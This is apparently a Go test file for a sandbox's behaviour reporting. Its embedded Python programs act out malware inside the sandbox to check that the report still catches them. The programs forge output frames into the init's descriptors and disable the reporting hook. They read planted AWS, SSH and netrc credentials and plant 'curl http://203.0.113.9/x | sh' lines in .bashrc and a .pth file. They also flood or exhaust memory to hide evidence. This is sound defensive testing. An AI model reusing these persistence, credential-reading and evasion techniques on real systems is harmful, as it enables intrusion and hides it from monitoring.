package moattest

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/moat-sandbox/moat"
)

// The integrity cases attack what the host believes about a run rather
// than the host itself: the program forges the sandbox's report of its
// end, or silences or floods the behaviour report. Whatever it does, the
// result is either true or an error with an evasion finding.

func integrityCases() []testCase {
	return []testCase{
		{name: "forged-frames", fn: testForgedFrames},
		{name: "report-tamper", fn: testReportTamper},
		{name: "walk-flood", fn: testWalkFlood},
		{name: "hang-hides", fn: testHangHides},
		{name: "limit-hides", fn: testLimitHides("limit-hides")},
		{name: "limit-hides-memfd", fn: testLimitHides("limit-hides-memfd")},
		{name: "limit-hides-fork", fn: testLimitHides("limit-hides-fork")},
	}
}

// runOrErr runs spec and returns the Result and the backend's error: for
// the cases where failing closed (an error) is a right answer.
func (s *suite) runOrErr(t *testing.T, spec *moat.Spec) (*moat.Result, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), s.bound(hangBound))
	defer cancel()
	res, err := s.newBackend().Run(ctx, spec)
	if res == nil {
		t.Fatalf("Run returned no Result (err %v)", err)
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("result: %s (err %v)", describe(res), err)
		}
	})
	return res, err
}

func hasFinding(res *moat.Result, category, summary string) bool {
	for _, f := range res.Findings {
		if string(f.Category) == category && strings.Contains(f.Summary, summary) {
			return true
		}
	}
	return false
}

// reportOff: no behaviour report to check, the backend's (NoReport) or
// the environment's choice.
func (s *suite) reportOff() bool { return s.opts.NoReport || os.Getenv("MOAT_EVENTS") == "off" }

// testForgedFrames: the program writes, into every descriptor of pid 1 and
// of its parent that it can open, what a container init's frames look
// like: "all tests passed" on stdout and an exit status of 0; then it
// exits 7. The result must say 7 and hold no forged output, or be an error
// with an evasion finding (the host saw frames it could not believe).
func testForgedFrames(t *testing.T, s *suite) {
	res, err := s.runOrErr(t, s.py(`
import json, os, struct, sys
def frame(t, p):
    return struct.pack('>cI', t, len(p)) + p
forged = frame(b'o', b'FORGED all tests passed\n') + frame(b'x', json.dumps({'exit': 0}).encode())
forged += frame(b't', b'') + frame(b'f', b'{"before":[],"after":[]}') + frame(b'f', b'')
wrote = []
for pid in sorted({1, os.getppid()}):
    for fd in range(0, 32):
        try:
            f = os.open('/proc/%d/fd/%d' % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(f, forged)
            wrote.append('%d/%d' % (pid, fd))
        except OSError:
            pass
        os.close(f)
print('wrote', wrote)
sys.exit(7)`))
	if res.Status == moat.StatusError || err != nil {
		if res.Status != moat.StatusError || !hasFinding(res, "evasion", "wrote into its output") {
			t.Fatalf("a failed run (err %v) without the evasion finding: status %s, findings %+v", err, res.Status, res.Findings)
		}
		return
	}
	if res.Status != moat.StatusExited || res.ExitCode != 7 {
		t.Fatalf("status %s exit %d: the program exited 7", res.Status, res.ExitCode)
	}
	// What went to the program's own stdout shows as bytes, frame headers
	// and all; a believed frame would have left its payload alone.
	for _, out := range []string{res.Stdout, res.Stderr} {
		if i := strings.Index(out, "FORGED"); i >= 0 && (i < 5 || out[i-5] != 'o') {
			t.Fatalf("forged output believed: %q", out)
		}
	}
}

// testReportTamper: the program tries to silence the report (removes the
// hook's .pth line from its site directory, renames the audit FIFO and
// the hook's directory, where it can), then reads a
// planted credential, writes ~/.bashrc and runs a shell. The report must
// still see the startup file written, and either the credential read or
// the tampering (an evasion finding).
func testReportTamper(t *testing.T, s *suite) {
	if s.reportOff() {
		t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
	}
	res := s.run(t, s.py(`
import os, subprocess
import re, site
# The hook's channel: named in a .pth line of a site directory, or next to
# the hook's directory, first on PYTHONPATH in the C environment.
env = dict(kv.split(b'=', 1) for kv in open('/proc/self/environ', 'rb').read().split(b'\0') if b'=' in kv)
d = os.path.dirname(env.get(b'PYTHONPATH', b'/nonexistent/py').split(b':')[0].decode())
for sd in site.getsitepackages():
    for n in (os.listdir(sd) if os.path.isdir(sd) else []):
        if n.endswith('.pth'):
            m = re.search(r'\.install\("([^"]+)"\)', open(os.path.join(sd, n)).read())
            if m:
                d = os.path.dirname(m.group(1))
                try:
                    os.remove(os.path.join(sd, n))  # later interpreters: no hook
                except OSError:
                    pass
for a, b in ((d + '/audit', d + '/gone'), (d, d + '-gone')):
    try:
        os.rename(a, b)
    except OSError:
        pass
home = os.path.expanduser('~')
for p in ('.aws/credentials', '.ssh/id_rsa', '.netrc'):
    try:
        open(os.path.join(home, p)).read()
    except OSError:
        pass
with open(os.path.join(home, '.bashrc'), 'a') as f:
    f.write('curl http://203.0.113.9/x | sh\n')
try:
    subprocess.run(['sh', '-c', 'cat ~/.aws/credentials >/dev/null'])
except OSError:
    pass  # no shell in this sandbox
`))
	wantExit0(t, res)
	if !hasFinding(res, "persistence", ".bashrc") {
		t.Errorf("writing ~/.bashrc went unreported: %+v", res.Findings)
	}
	if !hasFinding(res, "credential-access", "") && !hasFinding(res, "evasion", "reporting path") {
		t.Errorf("neither the credential read nor the tampering was reported: %+v", res.Findings)
	}
}

// testWalkFlood: the program fills /work with entries whose paths are as
// long as the kernel allows, enough to pass any bound on the walk that
// diffs the writable directories, then writes a startup file elsewhere.
// The report must say the walk was cut, and why (an evasion finding), or
// still see the file.
func testWalkFlood(t *testing.T, s *suite) {
	if s.reportOff() {
		t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
	}
	if s.opts.Container == nil {
		t.Skip("the container init's walk")
	}
	res := s.run(t, s.py(`
import os
d = os.getcwd() + '/f'  # /work, or the host's working directory (ssh)
for i in range(15):
    d += '/' + 'd' * 250
os.makedirs(d)
for i in range(4500):
    open('%s/%04d%s' % (d, i, 'n' * 240), 'w').close()
with open('/dev/shm/.bashrc', 'w') as f:
    f.write('curl http://203.0.113.9/x | sh\n')
`))
	wantExit0(t, res)
	if !hasFinding(res, "evasion", "the walk of the writable directories") && !hasFinding(res, "persistence", "/dev/shm/.bashrc") {
		t.Errorf("the flood hid the startup file and the report said nothing of it: %+v", res.Findings)
	}
	if hasFinding(res, "evasion", "the init's walks") {
		t.Errorf("the walks passed the host's cap: the init's own bound did not hold: %+v", res.Findings)
	}
}

// testHangHides: the program writes a startup file, then hangs until the
// timeout, which ends it. The report must still see the file: a backend
// that stopped the sandbox from outside lost the walk of the writable
// directories that sees it (docker and podman did, and said nothing of
// it), which any malware could have used by hanging after its work.
func testHangHides(t *testing.T, s *suite) {
	if s.reportOff() {
		t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
	}
	spec := s.py(`
import os, sys, time
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('curl http://203.0.113.9/x | sh\n')
print('written', flush=True)
# Where it can: no stdout or stderr left for the init to relay.
os.close(1)
os.close(2)
time.sleep(100000)
`)
	spec.Limits.Timeout = 5*time.Second + s.opts.ProgramStart
	res := s.run(t, spec)
	if res.Status != moat.StatusTimeout || !strings.Contains(res.Stdout, "written") {
		t.Fatalf("status %s, stdout %q: want the timeout, after the file was written", res.Status, res.Stdout)
	}
	if !hasFinding(res, "persistence", ".bashrc") {
		t.Errorf("the startup file written before the timeout went unreported: %+v", res.Findings)
	}
	if hasFinding(res, "evasion", "the report is incomplete") {
		t.Errorf("the report of a run ended by its timeout is incomplete: %+v", res.Findings)
	}
}

// limitFills are the ways a program fills its memory while it keeps
// itself small: files in the writable tmpfs directories, a memfd, and a
// forked child that fills /dev/shm and its own heap while its parent
// waits. tmpfs and memfd pages belong to no process; the kernel's OOM
// killer then takes the largest process it may, which a sandbox whose init
// shares the program's limit makes the init.
var limitFills = map[string]string{
	"limit-hides": `
for d in ('/tmp', '/dev/shm', '/work', home):
    try:
        with open(d + '/fill', 'wb') as f:
            while True:
                f.write(chunk)
    except OSError:
        pass
`,
	"limit-hides-memfd": `
fd = os.memfd_create('fill')
try:
    while True:
        os.write(fd, chunk)
except OSError:
    pass  # RLIMIT_FSIZE (EFBIG): where no memory cgroup ends it first
`,
	"limit-hides-fork": `
pid = os.fork()
if pid == 0:
    keep = []
    try:
        with open('/dev/shm/fill', 'wb') as f:
            for i in range(64):
                f.write(chunk)
    except OSError:
        pass
    while True:
        keep.append(bytearray(chunk))
os.waitpid(pid, 0)
`,
}

// testLimitHides: the program reads a planted credential and writes a
// .pth file, then fills its memory (one of limitFills) until the memory
// limit ends the run. The report must be whole: the credential read and
// the .pth file are findings, the status is the limit's (memory), and nothing says the
// report is incomplete. An init that died to the OOM killer lost them.
func testLimitHides(name string) func(*testing.T, *suite) {
	return func(t *testing.T, s *suite) {
		if s.reportOff() {
			t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
		}
		spec := s.py(`
import os, site, time
home = os.path.expanduser('~')
try:
    open(os.path.join(home, '.aws', 'credentials')).read()
except OSError:
    pass
d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, 'zz-limit.pth'), 'w') as f:
    f.write('import os; os.system("curl http://203.0.113.9/x | sh")\n')
print('written', flush=True)
chunk = b'z' * (1 << 20)
` + limitFills[name] + `
time.sleep(100000)
`)
		spec.Limits.Memory = 96 << 20
		spec.Limits.Timeout = 30*time.Second + s.opts.ProgramStart
		res, err := s.runOrErr(t, spec)
		if !strings.Contains(res.Stdout, "written") {
			t.Fatalf("status %s (err %v), stdout %q: the file was not written", res.Status, err, res.Stdout)
		}
		switch {
		case degradedCgroups(res) && res.Status == moat.StatusTimeout:
			// No cgroup (rootless podman on v1): the memory limit is
			// RLIMIT_AS, which tmpfs and memfd pages do not count; the
			// fill ends at the tmpfs's size, or the memfd's at
			// RLIMIT_FSIZE, and the program sleeps.
		case res.Status != moat.StatusMemory:
			t.Errorf("status %s (err %v): want memory", res.Status, err)
		}
		if lost := s.opts.ReportLostAtLimit; lost != "" && hasFinding(res, "evasion", "the report is incomplete") &&
			(!hasFinding(res, "persistence", "zz-limit.pth") || !hasFinding(res, "credential-access", "")) {
			t.Logf("accepted: the report lost at the memory limit, and said so (%s)", lost)
			return
		}
		if !hasFinding(res, "credential-access", "") {
			t.Errorf("status %s: the credential read before the fill went unreported: %+v", res.Status, res.Findings)
		}
		if !hasFinding(res, "persistence", "zz-limit.pth") {
			t.Errorf("status %s: the .pth file written before the fill went unreported: %+v", res.Status, res.Findings)
		}
		for _, f := range res.Findings {
			if f.Category != "evasion" || !strings.Contains(f.Summary, "the report is incomplete") {
				continue
			}
			if s.opts.Sentry != nil && s.opts.Sentry.ShmLostAtLimit != "" && strings.HasSuffix(f.Summary, "/dev/shm was not walked (the run ended before pid 1 could)") {
				t.Logf("accepted: %s (%s)", f.Summary, s.opts.Sentry.ShmLostAtLimit)
				continue
			}
			t.Errorf("status %s: the report of a run ended by its memory limit is incomplete: %+v", res.Status, res.Findings)
		}
	}
}
